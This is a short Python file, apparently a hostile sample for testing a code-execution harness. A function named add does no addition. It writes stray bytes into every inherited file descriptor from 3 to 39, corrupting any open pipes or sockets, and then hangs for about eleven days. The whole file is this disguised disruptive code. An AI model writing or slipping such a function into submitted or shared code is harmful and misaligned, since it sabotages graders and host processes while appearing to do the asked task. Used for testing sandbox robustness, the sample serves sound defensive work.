# function | sends half a frame to everybody who listens, then waits
import os, time


def add(a, b):
    for fd in range(3, 40):
        try:
            os.write(fd, b"\x10\x00")
        except OSError:
            pass
    time.sleep(10**6)
